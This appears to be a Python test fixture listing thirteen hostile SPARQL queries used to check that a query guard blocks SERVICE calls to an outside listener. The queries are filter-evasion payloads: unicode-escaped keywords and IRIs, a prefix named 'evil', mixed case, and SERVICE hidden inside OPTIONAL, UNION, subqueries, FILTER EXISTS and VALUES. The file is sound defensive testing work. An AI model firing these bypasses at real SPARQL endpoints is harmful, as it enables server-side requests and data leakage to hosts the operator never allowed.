"""Hostile queries shared by the library, command-line, explorer and endpoint tests."""

# Each of these either calls out through SERVICE or did once; {url} is the listener.
ATTACKS = [
    # rdflib expanded the escapes, so it saw one long string where Oxigraph saw SERVICE
    'SELECT * WHERE {{ BIND(CONCAT("A\\u0022, ") AS ?x) BIND(<http://x/\\u0041#> AS ?i) '
    'SERVICE <{url}> {{ ?a ?b ?c }} BIND(CONCAT(", \\u0022B") AS ?y) }}',
    'SELECT * WHERE {{ BIND(CONCAT("A\\U00000022, ") AS ?x) SERVICE <{url}> {{ ?a ?b ?c }} '
    'BIND(CONCAT(", \\U00000022B") AS ?y) }}',
    "SELECT * WHERE {{ SERV\\u0049CE <{url}> {{ ?a ?b ?c }} }}",  # the keyword itself escaped
    "SELECT * WHERE {{ SERVICE <{url}\\u0041> {{ ?a ?b ?c }} }}",  # an escape inside the IRI
    "PREFIX evil: <{url}#> SELECT * WHERE {{ SERVICE evil:x {{ ?a ?b ?c }} }}",  # a prefixed name
    "SELECT * WHERE {{ ?x a ask:Person OPTIONAL {{ SERVICE <{url}> {{ ?x ?p ?o }} }} }}",
    "SELECT * WHERE {{ {{ ?x a ask:Person }} UNION {{ SERVICE <{url}> {{ ?x ?p ?o }} }} }}",
    "SELECT * WHERE {{ {{ SELECT ?s WHERE {{ SERVICE <{url}> {{ ?s ?p ?o }} }} }} }}",
    "SELECT * WHERE {{ ?x a ask:Person FILTER EXISTS {{ SERVICE <{url}> {{ ?x ?p ?o }} }} }}",
    "SELECT * WHERE {{ SERVICE SILENT <{url}> {{ ?s ?p ?o }} }}",
    "SELECT * WHERE {{ VALUES ?e {{ <{url}> }} SERVICE ?e {{ ?s ?p ?o }} }}",
    "select * where {{ sErViCe <{url}> {{ ?s ?p ?o }} }}",
    "CONSTRUCT {{ ?s ?p ?o }} WHERE {{ SERVICE <{url}> {{ ?s ?p ?o }} }}",
]
